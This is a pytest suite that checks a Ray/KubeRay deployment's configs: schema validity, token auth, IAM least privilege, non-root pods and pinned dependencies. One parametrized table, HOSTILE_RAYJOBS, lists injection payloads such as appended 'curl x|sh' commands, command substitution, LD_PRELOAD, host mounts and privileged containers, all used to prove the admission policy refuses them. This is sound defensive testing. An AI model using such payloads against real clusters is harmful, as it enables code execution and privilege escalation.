"""The deployment files: cluster.yaml against Ray's own schema, KubeRay manifests, the job runtime env."""

from __future__ import annotations

import fnmatch
import functools
import importlib.metadata
import json
import os
import re

import jsonschema
import pytest
import ray
import yaml
from packaging.requirements import Requirement
from packaging.specifiers import SpecifierSet
from packaging.utils import canonicalize_name

from mura_ray import cli

try:
    import tomllib
except ModuleNotFoundError:  # Python 3.10: pytest's own dependency
    import tomli as tomllib

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
PRIVATE_PORTS = {6379, 8265, 10001}
# KubeRay's RayJob CRD (ray-operator/config/crd/bases/ray.io_rayjobs.yaml at tag v1.7.0): the
# openAPIV3Schema of version v1, as the operator installs it (see tests/kuberay/README.md).
RAYJOB_SCHEMA = os.path.join(ROOT, "tests", "kuberay", "rayjob-v1-openapi-kuberay-v1.7.0.json")
PROJECT_IMAGE = re.compile(r"^REGISTRY/mura-ray(:VERSION|@sha256:\S+)$")


def _load(path):
    with open(os.path.join(ROOT, path)) as f:
        return f.read()


def test_cluster_yaml_is_valid_for_ray_and_secure_by_default():
    text = _load("cluster.yaml")
    config = yaml.safe_load(text)
    schema_path = os.path.join(os.path.dirname(ray.__file__), "autoscaler", "ray-schema.json")
    with open(schema_path) as f:
        jsonschema.validate(config, json.load(f))

    assert config["provider"]["type"] == "aws"
    nodes = config["available_node_types"]
    assert config["head_node_type"] in nodes
    workers = {k: v for k, v in nodes.items() if k != config["head_node_type"]}
    assert len(workers) >= 2 and all("min_workers" in v and "max_workers" in v for v in workers.values())
    gpu_types = {v["node_config"]["InstanceType"] for v in workers.values()}
    assert {"g5.2xlarge", "g5.12xlarge"} <= gpu_types  # one GPU each, and four in one node for DDP
    assert config["idle_timeout_minutes"] > 0 and config["max_workers"] >= sum(
        v["max_workers"] for v in workers.values()
    )

    # S3 through an instance profile on every node; no keys anywhere.
    assert all("IamInstanceProfile" in v["node_config"] for v in nodes.values())
    assert not re.search(r"AKIA[0-9A-Z]{16}|aws_secret_access_key|AWS_SECRET_ACCESS_KEY|AWS_ACCESS_KEY_ID", text)

    # Token authentication on every node, the token file mounted.
    assert "--env RAY_AUTH_MODE=token" in config["docker"]["run_options"]
    assert any("auth_token" in dst for dst in config["file_mounts"])

    # Every node is in a security group made beforehand (SSH from ADMIN_CIDR only, README): given
    # none, Ray's AWS provider creates one itself and opens port 22 to 0.0.0.0/0.
    assert "security_group" not in config["provider"]
    assert all(v["node_config"].get("SecurityGroupIds") and v["node_config"].get("SubnetIds") for v in nodes.values())
    readme = _load("README.md")
    assert "authorize-security-group-ingress" in readme and "--cidr ADMIN_CIDR/32" in readme
    assert "0.0.0.0/0" not in readme
    head_start = " ".join(config["head_start_ray_commands"])
    assert "--dashboard-host=127.0.0.1" in head_start and "0.0.0.0" not in head_start

    # Every node starts from mura-ray's image, the same on the head and the workers, and installs
    # nothing when it boots.
    docker = config["docker"]
    assert PROJECT_IMAGE.match(docker["image"]), docker["image"]
    images = {docker.get("head_image", docker["image"]), docker.get("worker_image", docker["image"])}
    images |= {v["docker"]["worker_image"] for v in nodes.values() if "worker_image" in v.get("docker", {})}
    assert images == {docker["image"]}
    command_lists = [v for k, v in config.items() if k.endswith("_commands")]
    command_lists += [v[k] for v in nodes.values() for k in v if k.endswith("_commands")]
    commands = [c for cs in command_lists for c in cs]
    assert config["setup_commands"] == ["chmod 600 /home/ray/.ray/auth_token"]
    assert not [c for c in commands if re.search(r"\b(pip|uv|conda|apt-get|apt)\b.*\binstall\b", c)]
    assert list(config["file_mounts"]) == ["/home/ray/.ray/auth_token"]  # the code is in the image


def _docs(path):
    return [d for d in yaml.safe_load_all(_load(path)) if d]


def _k8s_files():
    """The manifests under k8s/ (k8s/iam/ holds the IAM policy documents, not manifests)."""
    return sorted(name for name in os.listdir(os.path.join(ROOT, "k8s")) if name.endswith(".yaml"))


def _check_rayjob(job, entry_script):
    assert job["apiVersion"] == "ray.io/v1" and job["kind"] == "RayJob"
    spec = job["spec"]
    assert entry_script in spec["entrypoint"]
    cluster = spec["rayClusterSpec"]
    assert cluster["rayVersion"] == ray.__version__
    assert cluster["authOptions"]["mode"] == "token"
    head = cluster["headGroupSpec"]["template"]["spec"]["containers"]
    assert head and head[0]["image"]
    groups = cluster["workerGroupSpecs"]
    assert groups and all(
        g["template"]["spec"]["containers"][0]["resources"]["limits"].get("nvidia.com/gpu") for g in groups
    )
    assert spec["shutdownAfterJobFinishes"] is True
    assert spec["ttlSecondsAfterFinished"] <= 600  # the GPUs go within minutes of the job's end
    if not cluster.get("enableInTreeAutoscaling"):  # fixed sizes: the bounds say the same
        assert all(g["replicas"] == g["minReplicas"] == g["maxReplicas"] for g in groups), groups
    assert "--use-gpu yes" in spec["entrypoint"]  # the workers have GPUs: ask for them, never fall back to CPUs
    images = {c["image"] for g in [cluster["headGroupSpec"], *groups] for c in g["template"]["spec"]["containers"]}
    assert len(images) == 1 and PROJECT_IMAGE.match(images.pop())
    assert not re.search(r"AWS_SECRET_ACCESS_KEY|AWS_ACCESS_KEY_ID", json.dumps(job))


def test_kuberay_training_job_and_nightly_scoring():
    (train,) = _docs("k8s/rayjob-train.yaml")
    _check_rayjob(train, "jobs/train.py")

    docs = {d["kind"]: d for d in _docs("k8s/cronjob-score.yaml")}
    assert {"CronJob", "ConfigMap", "ServiceAccount", "Role", "RoleBinding"} <= set(docs)
    cron = docs["CronJob"]
    assert cron["apiVersion"] == "batch/v1" and cron["spec"]["schedule"]
    assert cron["spec"]["concurrencyPolicy"] == "Forbid"
    pod = cron["spec"]["jobTemplate"]["spec"]["template"]["spec"]
    assert pod["serviceAccountName"] == docs["ServiceAccount"]["metadata"]["name"]
    command = " ".join(pod["containers"][0]["command"] + pod["containers"][0]["args"])
    assert "kubectl create" in command and "date -u +%Y-%m-%d" in command  # one RayJob per night, by name
    rayjob = yaml.safe_load(docs["ConfigMap"]["data"]["rayjob.yaml"])
    _check_rayjob(rayjob, "jobs/score.py")
    assert "NIGHT" in rayjob["metadata"]["name"]
    # The entrypoint's arguments are those of `mura-ray score`, as jobs/score.py hands them on.
    words = rayjob["spec"]["entrypoint"].split()
    parsed = cli.build_parser().parse_args(["score", *words[words.index("/app/jobs/score.py") + 1 :]])
    assert parsed.vacuum is True and parsed.commit_every == 10000  # the nightly job keeps the table's files in check
    (rule,) = docs["Role"]["rules"]
    assert rule["resources"] == ["rayjobs"] and set(rule["verbs"]) == {"create", "get", "list", "delete"}
    assert "kubectl delete" in command and "head -n -7" in command  # old RayJobs are cleaned up
    assert re.search(r"@sha256:\S+$", pod["containers"][0]["image"])  # the scheduler's image by digest
    # What a RayJob the scheduler creates may hold is the admission policy's (tests below).
    policy = {d["kind"]: d for d in _docs("k8s/admission-policy.yaml")}
    assert (
        policy["ValidatingAdmissionPolicyBinding"]["spec"]["policyName"]
        == (policy["ValidatingAdmissionPolicy"]["metadata"]["name"])
    )
    assert policy["ValidatingAdmissionPolicyBinding"]["spec"]["validationActions"] == ["Deny"]


def _kubernetes_json_schema(node):
    """One node of a CRD's structural OpenAPI schema -> the JSON Schema `jsonschema` checks a manifest with.

    `x-kubernetes-int-or-string` nodes take an integer or a string (Kubernetes quantities: cpu 8 or
    "8", memory 32Gi); an object with `properties` refuses fields it does not declare, as
    `kubectl create` does (strict field validation, its default since 1.27). Defaults are not
    filled in (the API server would): a manifest must write out every field the schema requires.
    """
    out = dict(node)
    if node.get("x-kubernetes-int-or-string"):
        out.pop("anyOf", None)
        out["type"] = ["integer", "string"]
    if "properties" in node:
        out["properties"] = {name: _kubernetes_json_schema(sub) for name, sub in node["properties"].items()}
        out.setdefault("additionalProperties", bool(node.get("x-kubernetes-preserve-unknown-fields")))
    for key in ("items", "additionalProperties", "not"):
        if isinstance(node.get(key), dict):
            out[key] = _kubernetes_json_schema(node[key])
    for key in ("anyOf", "allOf", "oneOf"):
        if key in out:
            out[key] = [_kubernetes_json_schema(sub) for sub in out[key]]
    return out


def _rayjob_schema_errors(job):
    """What KubeRay v1.7.0's RayJob schema says of `job`: one 'path: message' line per error, sorted."""
    with open(RAYJOB_SCHEMA) as f:
        validator = jsonschema.Draft4Validator(_kubernetes_json_schema(json.load(f)))
    return sorted(f"{'/'.join(map(str, e.absolute_path))}: {e.message}" for e in validator.iter_errors(job))


def _rayjobs_in_k8s():
    """Every RayJob under k8s/, by where it is: a file's own documents and those a ConfigMap holds."""
    jobs = {}
    for name in _k8s_files():
        for doc in _docs(f"k8s/{name}"):
            if doc["kind"] == "RayJob":
                jobs[f"k8s/{name}: {doc['metadata']['name']}"] = doc
            if doc["kind"] != "ConfigMap":
                continue
            for key, value in doc.get("data", {}).items():
                embedded = yaml.safe_load(value)
                if isinstance(embedded, dict) and embedded.get("kind") == "RayJob":
                    jobs[f"k8s/{name}: ConfigMap {doc['metadata']['name']}/{key}"] = embedded
    return jobs


def test_every_rayjob_in_k8s_is_valid_under_kuberays_crd_schema():
    jobs = _rayjobs_in_k8s()
    assert len(jobs) == 2, sorted(jobs)  # the training job and the one the nightly CronJob creates
    errors = {where: _rayjob_schema_errors(job) for where, job in jobs.items()}
    assert not any(errors.values()), errors


def test_the_rayjob_schema_check_finds_missing_bounds_unknown_fields_and_bad_quantities():
    (job,) = _docs("k8s/rayjob-train.yaml")
    group = job["spec"]["rayClusterSpec"]["workerGroupSpecs"][0]
    resources = group["template"]["spec"]["containers"][0]["resources"]
    resources["limits"]["cpu"] = 8  # a quantity as an integer is as valid as "8"
    assert _rayjob_schema_errors(job) == []

    del group["maxReplicas"]
    group["replica"] = 4
    resources["requests"]["memory"] = "32 GB"
    where = "spec/rayClusterSpec/workerGroupSpecs/0"
    errors = _rayjob_schema_errors(job)
    assert len(errors) == 3, errors
    assert f"{where}: 'maxReplicas' is a required property" in errors
    assert f"{where}: Additional properties are not allowed ('replica' was unexpected)" in errors
    assert any(e.startswith(f"{where}/template/spec/containers/0/resources/requests/memory: '32 GB'") for e in errors)


def test_every_service_account_the_manifests_use_is_defined_in_them():
    docs = [d for name in _k8s_files() for d in _docs(f"k8s/{name}")]
    defined = {d["metadata"]["name"] for d in docs if d["kind"] == "ServiceAccount"}
    text = "\n".join(_load(f"k8s/{name}") for name in _k8s_files())
    used = set(re.findall(r"serviceAccountName: (\S+)", text))
    assert used and used <= defined, used - defined


# --- The admission policy, evaluated -----------------------------------------------------------------
# k8s/admission-policy.yaml's CEL runs here in cel-python (`celpy`), which implements CEL's standard
# definitions: has(), all/exists/map, `in`, startsWith/endsWith/contains, size, and matches() with
# RE2 (google-re2, the syntax and unanchored search of Kubernetes' own matches()). The policy uses only
# those, none of Kubernetes' extension libraries, so nothing is re-implemented for the test. As on the
# API server, `object` is the RayJob after the CRD schema's defaults are filled in, its fields plain
# maps and lists (the admission plugin declares `object` as dyn), and a variable that fails is an
# error only where a validation reads it (the error is its value, as CEL's logic operators expect).
NAMESPACE = "mura"
SCHEDULER = f"system:serviceaccount:{NAMESPACE}:mura-ray-scheduler"
ADMIN = "kubernetes-admin"


@functools.cache
def _rayjob_openapi():
    with open(RAYJOB_SCHEMA) as f:
        return json.load(f)


def _with_schema_defaults(node, value):
    """`value` with the CRD schema's `default`s filled in where the API server fills them."""
    if isinstance(value, dict) and "properties" in node:
        out = dict(value)
        for name, sub in node["properties"].items():
            if name not in out and "default" in sub:
                out[name] = sub["default"]
            if name in out:
                out[name] = _with_schema_defaults(sub, out[name])
        return out
    if isinstance(value, list) and isinstance(node.get("items"), dict):
        return [_with_schema_defaults(node["items"], v) for v in value]
    return value


@functools.cache
def _cel_program(expression):
    import celpy

    env = celpy.Environment()
    return env.program(env.compile(expression))


def _cel(expression, activation):
    """One CEL expression's value, or the CELEvalError it raised (an error is a value in CEL)."""
    from celpy.evaluation import CELEvalError

    try:
        return _cel_program(expression).evaluate(activation)
    except CELEvalError as error:
        return error


def _admission(job, user=SCHEDULER):
    """How the policy answers `kubectl create` of `job` by `user`: None when it does not match the
    request, else {validation message: True (passes), False (refuses), or the CEL error}."""
    import celpy
    from celpy import celtypes

    policy = _admission_policy()
    job = _with_schema_defaults(_rayjob_openapi(), json.loads(json.dumps(job)))
    request = {"operation": "CREATE", "namespace": NAMESPACE, "userInfo": {"username": user}}
    activation = {"object": celpy.json_to_cel(job), "oldObject": None, "request": celpy.json_to_cel(request)}
    spec = policy["spec"]
    for condition in spec["matchConditions"]:
        matched = _cel(condition["expression"], activation)
        assert isinstance(matched, celtypes.BoolType), (condition["name"], matched)
        if not matched:
            return None
    variables = {}
    for variable in spec["variables"]:
        activation["variables"] = celtypes.MapType(variables)
        variables[celtypes.StringType(variable["name"])] = _cel(variable["expression"], activation)
    activation["variables"] = celtypes.MapType(variables)
    answers = {}
    for validation in spec["validations"]:
        result = _cel(validation["expression"], activation)
        answers[validation["message"]] = bool(result) if isinstance(result, celtypes.BoolType) else result
    return answers


def _nightly_rayjob():
    docs = {d["kind"]: d for d in _docs("k8s/cronjob-score.yaml")}
    return yaml.safe_load(docs["ConfigMap"]["data"]["rayjob.yaml"])


def test_the_admission_policy_admits_the_shipped_rayjobs():
    (train,) = _docs("k8s/rayjob-train.yaml")
    for job, user in [(_nightly_rayjob(), SCHEDULER), (train, ADMIN), (_nightly_rayjob(), ADMIN)]:
        answers = _admission(job, user)
        assert answers is not None, f"the policy does not look at {job['metadata']['name']} from {user}"
        assert answers and all(a is True for a in answers.values()), (job["metadata"]["name"], user, answers)

    # The scheduler may create the scoring job only; a RayJob that is not mura-ray's, from someone else
    # than the scheduler, is not this policy's business.
    answers = _admission(train, SCHEDULER)
    assert [m for m, a in answers.items() if a is not True] == [_validation("no shell syntax")]
    del train["metadata"]["labels"]
    assert _admission(train, ADMIN) is None


@functools.cache
def _admission_policy():
    """The ValidatingAdmissionPolicy of k8s/ (one, in whichever manifest holds it); read it, never change it."""
    (policy,) = [d for name in _k8s_files() for d in _docs(f"k8s/{name}") if d["kind"] == "ValidatingAdmissionPolicy"]
    return policy


def _validation(words):
    """The message of the policy's validation whose message contains `words` (None if none does)."""
    messages = [v["message"] for v in _admission_policy()["spec"]["validations"] if words in v["message"]]
    assert len(messages) <= 1, messages
    return messages[0] if messages else None


def _head(job):
    return job["spec"]["rayClusterSpec"]["headGroupSpec"]["template"]["spec"]


def _worker(job):
    return job["spec"]["rayClusterSpec"]["workerGroupSpecs"][0]["template"]["spec"]


def _context(node):
    return node.setdefault("securityContext", {})


def _set(path, value):
    """A change that sets spec.PATH (dotted) to value."""

    def change(job):
        *parents, last = path.split(".")
        node = job["spec"]
        for key in parents:
            node = node.setdefault(key, {})
        node[last] = value

    return change


def _append_entrypoint(tail):
    return lambda job: job["spec"].update(entrypoint=job["spec"]["entrypoint"] + tail)


_SIDECAR = {"name": "sidecar", "image": "REGISTRY/mura-ray:VERSION", "command": ["sh", "-c", "curl x | sh"]}
HOSTILE_RAYJOBS = {
    "entrypoint ; curl|sh": (_append_entrypoint("; curl x|sh"), "no shell syntax"),
    "entrypoint &&": (_append_entrypoint(" && curl x | sh"), "no shell syntax"),
    "entrypoint backticks": (_append_entrypoint(" --out `curl x|sh`"), "no shell syntax"),
    "entrypoint $(...)": (_append_entrypoint(" --out $(curl x|sh)"), "no shell syntax"),
    "entrypoint newline": (_append_entrypoint("\ncurl x|sh"), "no shell syntax"),
    "entrypoint another script": (_set("entrypoint", "python /tmp/evil.py --use-gpu yes"), "no shell syntax"),
    "runtimeEnvYAML pip": (_set("runtimeEnvYAML", "pip:\n  - evil\n"), "no packages"),
    "runtimeEnvYAML conda": (_set("runtimeEnvYAML", "conda:\n  dependencies: [evil]\n"), "no packages"),
    "runtimeEnvYAML uv": (_set("runtimeEnvYAML", "uv:\n  - evil\n"), "no packages"),
    "runtimeEnvYAML py_modules": (_set("runtimeEnvYAML", "py_modules: [s3://x/evil.zip]\n"), "no packages"),
    "runtimeEnvYAML working_dir s3": (_set("runtimeEnvYAML", "working_dir: s3://x/evil.zip\n"), "no packages"),
    "runtimeEnvYAML working_dir https": (
        _set("runtimeEnvYAML", "working_dir: https://x/evil.zip\n"),
        "no packages",
    ),
    "runtimeEnvYAML env_vars then pip": (
        _set("runtimeEnvYAML", 'env_vars:\n  PYTHONUNBUFFERED: "1"\npip: [evil]\n'),
        "no packages",
    ),
    "runtimeEnvYAML LD_PRELOAD": (_set("runtimeEnvYAML", 'env_vars:\n  LD_PRELOAD: "/tmp/x.so"\n'), "no packages"),
    "extra container": (lambda job: _worker(job)["containers"].append(dict(_SIDECAR)), "one container"),
    "initContainer": (lambda job: _head(job).update(initContainers=[dict(_SIDECAR)]), "init containers"),
    "container command": (
        lambda job: _head(job)["containers"][0].update(command=["sh", "-c", "curl x|sh"]),
        "one container",
    ),
    "container env": (
        lambda job: _head(job)["containers"][0].update(env=[{"name": "LD_PRELOAD", "value": "x"}]),
        "one container",
    ),
    "hostPath /": (
        lambda job: (
            _worker(job).update(volumes=[{"name": "root", "hostPath": {"path": "/"}}]),
            _worker(job)["containers"][0].update(volumeMounts=[{"name": "root", "mountPath": "/host"}]),
        ),
        "emptyDir",
    ),
    "privileged": (lambda job: _context(_worker(job)["containers"][0]).update(privileged=True), "privileged"),
    "capability added": (
        lambda job: _context(_head(job)["containers"][0]).update(capabilities={"add": ["SYS_ADMIN"]}),
        "privileged",
    ),
    "privilege escalation": (
        lambda job: _context(_head(job)["containers"][0]).update(allowPrivilegeEscalation=True),
        "privileged",
    ),
    "runs as root": (lambda job: _context(_head(job)).update(runAsUser=0, runAsNonRoot=False), "seccomp"),
    "seccomp Unconfined": (
        lambda job: _context(_head(job)).update(seccompProfile={"type": "Unconfined"}),
        "seccomp",
    ),
    "no securityContext": (lambda job: _worker(job).pop("securityContext"), "seccomp"),
    "hostNetwork": (lambda job: _worker(job).update(hostNetwork=True), "host namespaces"),
    "hostPID": (lambda job: _head(job).update(hostPID=True), "host namespaces"),
    "hostIPC": (lambda job: _head(job).update(hostIPC=True), "host namespaces"),
    "nodeName": (lambda job: _head(job).update(nodeName="control-plane"), "node placement"),
    "auth disabled": (_set("rayClusterSpec.authOptions", {"mode": "disabled"}), "token authentication"),
    "auth absent": (lambda job: job["spec"]["rayClusterSpec"].pop("authOptions"), "token authentication"),
    "head service LoadBalancer": (_set("rayClusterSpec.headGroupSpec.serviceType", "LoadBalancer"), "ClusterIP"),
    "head service NodePort": (_set("rayClusterSpec.headGroupSpec.serviceType", "NodePort"), "ClusterIP"),
    "headService template LoadBalancer": (
        _set("rayClusterSpec.headGroupSpec.headService", {"spec": {"type": "LoadBalancer"}}),
        "ClusterIP",
    ),
    "auth disabled behind a LoadBalancer": (
        lambda job: (
            _set("rayClusterSpec.authOptions", {"mode": "disabled"})(job),
            _set("rayClusterSpec.headGroupSpec.serviceType", "LoadBalancer")(job),
        ),
        "token authentication",
    ),
    "rayStartParams injection": (
        _set("rayClusterSpec.headGroupSpec.rayStartParams", {"block": "true; curl x|sh"}),
        "ClusterIP",
    ),
    "autoscaler sidecar": (_set("rayClusterSpec.enableInTreeAutoscaling", True), "token authentication"),
    "another image": (lambda job: _worker(job)["containers"][0].update(image="evil/ray:latest"), "one container"),
    "the other job's role": (
        lambda job: _head(job).update(
            serviceAccountName="mura-ray-train" if "score.py" in job["spec"]["entrypoint"] else "mura-ray-score"
        ),
        "mura-ray-score",
    ),
    "the submitter with a role": (
        lambda job: job["spec"]["submitterPodTemplate"]["spec"].update(serviceAccountName="mura-ray-score"),
        "mura-ray-submitter",
    ),
    "no submitter pod": (lambda job: job["spec"].pop("submitterPodTemplate"), "no other job options"),
    "submitter runs a command": (
        lambda job: job["spec"]["submitterPodTemplate"]["spec"]["containers"][0].update(command=["sh", "-c", "x"]),
        "one container",
    ),
    "job id into the submit command": (_set("jobId", "x; curl x|sh"), "no other job options"),
    "another cluster (clusterSelector)": (_set("clusterSelector", {"ray.io/cluster": "other"}), "no other job options"),
}


@pytest.mark.parametrize("case", sorted(HOSTILE_RAYJOBS))
def test_the_admission_policy_refuses_each_hostile_rayjob(case):
    change, reason = HOSTILE_RAYJOBS[case]
    for job, user in [(_nightly_rayjob(), SCHEDULER), (_docs("k8s/rayjob-train.yaml")[0], ADMIN)]:
        change(job)
        answers = _admission(job, user)
        assert answers is not None, f"{case}: the policy does not look at this RayJob"
        refused = [m for m, a in answers.items() if a is not True]
        assert refused, f"{case}: admitted from {user}"
        # Refused by the validation that names the reason, as false: not by an error elsewhere.
        assert answers.get(_validation(reason)) is False, (case, user, answers)


def _pod_specs(node, where):
    """Every pod spec in a manifest (a mapping with `containers`), with where it is."""
    if isinstance(node, dict):
        if "containers" in node:
            yield where, node
        for key, value in node.items():
            yield from _pod_specs(value, f"{where}/{key}")
    elif isinstance(node, list):
        for i, value in enumerate(node):
            yield from _pod_specs(value, f"{where}/{i}")


def _image_user():
    """The Dockerfile's last `USER uid:gid`, as two ints (numeric, so that the kubelet can check runAsNonRoot)."""
    users = re.findall(r"^USER\s+(\S+)\s*$", _load("Dockerfile"), re.M)
    assert users, "Dockerfile: no USER (the base image's user is then implicit)"
    uid, _, gid = users[-1].partition(":")
    assert uid.isdigit() and gid.isdigit() and int(uid) != 0, f"Dockerfile: USER {users[-1]} is not a non-root uid:gid"
    return int(uid), int(gid)


def test_every_pod_in_k8s_runs_as_non_root_without_privileges():
    pods = {}
    for name in _k8s_files():
        for doc in _docs(f"k8s/{name}"):
            pods.update(_pod_specs(doc, f"k8s/{name}: {doc['kind']} {doc['metadata']['name']}"))
    jobs = _rayjobs_in_k8s()
    for where, job in jobs.items():
        if "ConfigMap" in where:
            pods.update(_pod_specs(job, where))
    for where, pod in pods.items():
        context = pod.get("securityContext", {})
        assert context.get("runAsNonRoot") is True, f"{where}: runAsNonRoot is {context.get('runAsNonRoot')}"
        assert context.get("runAsUser", 0) > 0 and context.get("runAsGroup", 0) > 0, f"{where}: {context}"
        assert context.get("seccompProfile") == {"type": "RuntimeDefault"}, f"{where}: {context}"
        assert not {"hostNetwork", "hostPID", "hostIPC"} & set(pod), where
        assert not any("hostPath" in v for v in pod.get("volumes", [])), where
        containers = pod["containers"] + pod.get("initContainers", [])
        if all(PROJECT_IMAGE.match(c["image"]) for c in containers):
            # mura-ray's image: the user that owns /app and /home/ray (Ray's temp dir is /tmp).
            assert (context["runAsUser"], context["runAsGroup"]) == _image_user(), f"{where}: {context}"
        for container in containers:
            c = container.get("securityContext", {})
            assert c.get("allowPrivilegeEscalation") is False, f"{where} {container['name']}: {c}"
            assert c.get("capabilities") == {"drop": ["ALL"]}, f"{where} {container['name']}: {c}"
            assert not c.get("privileged") and c.get("runAsUser", 1) != 0, f"{where} {container['name']}: {c}"
    # Without a submitterPodTemplate KubeRay starts each job's submitter pod with no securityContext.
    assert all("submitterPodTemplate" in job["spec"] for job in jobs.values()), sorted(jobs)
    assert len(pods) == 7, sorted(pods)  # head, workers and submitter of both RayJobs; the CronJob's pod


def _s3_key(uri):
    bucket, _, key = uri.removeprefix("s3://").partition("/")
    return bucket, key.rstrip("/")


def _iam_allows(policy, action, resource, prefix=None):
    """Whether an IAM policy of Allow statements grants `action` on `resource` (with s3:prefix `prefix`)."""

    def listed(value):
        return [value] if isinstance(value, str) else value

    for statement in policy["Statement"]:
        assert statement["Effect"] == "Allow" and not {"NotAction", "NotResource"} & set(statement), statement
        if not any(fnmatch.fnmatchcase(action, a) for a in listed(statement["Action"])):
            continue
        if not any(fnmatch.fnmatchcase(resource, r) for r in listed(statement["Resource"])):
            continue
        granted = True
        for operator, conditions in statement.get("Condition", {}).items():
            assert operator in ("StringLike", "StringEquals") and set(conditions) == {"s3:prefix"}, statement
            match = fnmatch.fnmatchcase if operator == "StringLike" else str.__eq__
            granted &= prefix is not None and any(match(prefix, v) for v in listed(conditions["s3:prefix"]))
        if granted:
            return True
    return False


def test_training_and_scoring_each_have_their_own_least_privilege_role():
    accounts = {d["metadata"]["name"]: d for d in _docs("k8s/service-account.yaml")}
    jobs = {"train": _docs("k8s/rayjob-train.yaml")[0], "score": _nightly_rayjob()}
    roles, prefixes = {}, {}
    for name, job in jobs.items():
        cluster = job["spec"]["rayClusterSpec"]
        groups = [cluster["headGroupSpec"], *cluster["workerGroupSpecs"]]
        (account,) = {g["template"]["spec"]["serviceAccountName"] for g in groups}
        roles[name] = account, accounts[account]["metadata"]["annotations"]["eks.amazonaws.com/role-arn"]
        # What the job reads and writes, from its own arguments.
        tokens = job["spec"]["entrypoint"].split()
        args = dict(zip(tokens[2::2], tokens[3::2]))
        reads = [_s3_key(args[flag]) for flag in ("--data", "--model") if flag in args]
        prefixes[name] = {"reads": reads, "writes": [_s3_key(args["--out"])]}
    assert roles["train"][1] != roles["score"][1], f"one IAM role for training and scoring: {roles}"
    for name, (account, role_arn) in roles.items():
        roles[name] = role_arn.rsplit("/", 1)[1]
        # The role trusts this service account only.
        (trust,) = json.loads(_load(f"k8s/iam/{roles[name]}-trust.json"))["Statement"]
        assert trust["Action"] == "sts:AssumeRoleWithWebIdentity" and set(trust["Condition"]) == {"StringEquals"}
        subjects = [v for k, v in trust["Condition"]["StringEquals"].items() if k.endswith(":sub")]
        assert subjects == [f"system:serviceaccount:NAMESPACE:{account}"], trust
    submitter = jobs["score"]["spec"]["submitterPodTemplate"]["spec"]["serviceAccountName"]
    assert "annotations" not in accounts[submitter], accounts[submitter]  # no role: it only talks to Ray

    everything = {p for job in prefixes.values() for kind in job.values() for p in kind}
    (bucket,) = {b for b, _ in everything}
    probes = sorted({key for _, key in everything} | {"elsewhere", ""})  # "": the bucket's top
    for name, role in roles.items():
        policy = json.loads(_load(f"k8s/iam/{role}-policy.json"))
        reads = [key for _, key in prefixes[name]["reads"]]
        writes = [key for _, key in prefixes[name]["writes"]]
        for key in probes:
            obj = f"arn:aws:s3:::{bucket}/{key}/x" if key else f"arn:aws:s3:::{bucket}/x"
            listing = f"{key}/" if key else ""
            mine, written = _under(key, reads + writes), _under(key, writes)
            assert _iam_allows(policy, "s3:GetObject", obj) == mine, (role, "s3:GetObject", key)
            assert _iam_allows(policy, "s3:ListBucket", f"arn:aws:s3:::{bucket}", prefix=listing) == mine, (role, key)
            for action in ("s3:PutObject", "s3:DeleteObject"):
                assert _iam_allows(policy, action, obj) == written, (role, action, key)


def _under(key, tops):
    return bool(key) and any(key == top or key.startswith(top + "/") for top in tops)


def _readme_output_folders():
    """The folders inside the checkout that the README's commands write: each local `--out` value's first part."""
    folders = set()
    for value in re.findall(r"--out[ =]([^\s\]`]+)", _load("README.md")):
        # s3:// prefixes, absolute and home paths are outside the checkout; DIR, RUN_DIR, OUT, ... are placeholders.
        if "://" not in value and re.match(r"[a-z]", value):
            folders.add(value.split("/")[0])
    return folders


def _excluded(folder, patterns):
    return any(fnmatch.fnmatchcase(folder, p.strip().strip("/")) for p in patterns if p.strip())


def test_user_outputs_stay_out_of_the_image_the_rsync_and_the_job_upload():
    folders = _readme_output_folders()
    assert {"demo-out", "my-scores"} <= folders, folders
    dockerignore = [line for line in _load(".dockerignore").splitlines() if not line.startswith("#")]
    rsync = yaml.safe_load(_load("cluster.yaml")).get("rsync_exclude", [])
    job_upload = yaml.safe_load(_load("jobs/runtime_env.yaml"))["excludes"]
    for where, patterns in [
        (".dockerignore", dockerignore),
        ("cluster.yaml rsync_exclude", rsync),
        ("jobs/runtime_env.yaml excludes", job_upload),
    ]:
        missing = sorted(f for f in folders if not _excluded(f, patterns))
        assert not missing, f"{where} lets through {missing}"


def test_job_runtime_env_ships_the_code_and_not_the_environment():
    env = yaml.safe_load(_load("jobs/runtime_env.yaml"))
    assert env["working_dir"] == "."
    assert {".git", ".venv"} <= set(env["excludes"])
    for script in ("jobs/train.py", "jobs/score.py"):
        assert "from mura_ray.cli import main" in _load(script)


def _constraints():
    """constraints.txt: {canonical name: [the versions pinned with ==]}, comments and blank lines skipped."""
    pins = {}
    for line in _load("constraints.txt").splitlines():
        line = line.split("#")[0].strip()
        if line:
            name, sep, version = line.partition("==")
            assert sep and version and "@" not in line, f"constraints.txt: not a name==version pin: {line!r}"
            pins.setdefault(canonicalize_name(name), []).append(version.strip())
    return pins


def test_every_dependency_is_pinned_in_constraints_and_installed_at_its_pin():
    project = tomllib.loads(_load("pyproject.toml"))["project"]
    declared = project["dependencies"] + [r for extra in project["optional-dependencies"].values() for r in extra]
    requirements = [Requirement(r) for r in declared if canonicalize_name(Requirement(r).name) != "mura-ray"]
    assert {"onnxruntime", "mlflow-skinny", "pytest"} <= {canonicalize_name(r.name) for r in requirements}
    pins = _constraints()
    assert "mura-ray" not in pins
    for requirement in requirements:
        name = canonicalize_name(requirement.name)
        assert len(pins.get(name, [])) == 1, f"constraints.txt: {name} pinned {pins.get(name, [])}, not once"
        (pin,) = pins[name]
        assert requirement.specifier.contains(pin, prereleases=True), f"{name}=={pin} is outside {requirement}"
        installed = importlib.metadata.version(requirement.name)
        assert SpecifierSet(f"=={pin}").contains(installed, prereleases=True), f"{name}: {installed} installed"

    # One Ray everywhere: the package, the pins, the image's base, the clusters.
    assert pins["ray"] == [ray.__version__]
    assert f"ray[train,data,default]=={ray.__version__}" in project["dependencies"]
    dockerfile = _load("Dockerfile")
    assert f"FROM rayproject/ray:{ray.__version__}-" in dockerfile
    assert re.search(r"^RUN pip install --no-cache-dir -c /app/constraints\.txt /app$", dockerfile, re.M)
    makefile = _load("Makefile")
    assert makefile.count("$(PIP) -c constraints.txt -e ") == 2
    assert len(re.findall(r"^\$\(VENV\)/\.installed(-test)?: pyproject\.toml constraints\.txt ", makefile, re.M)) == 2
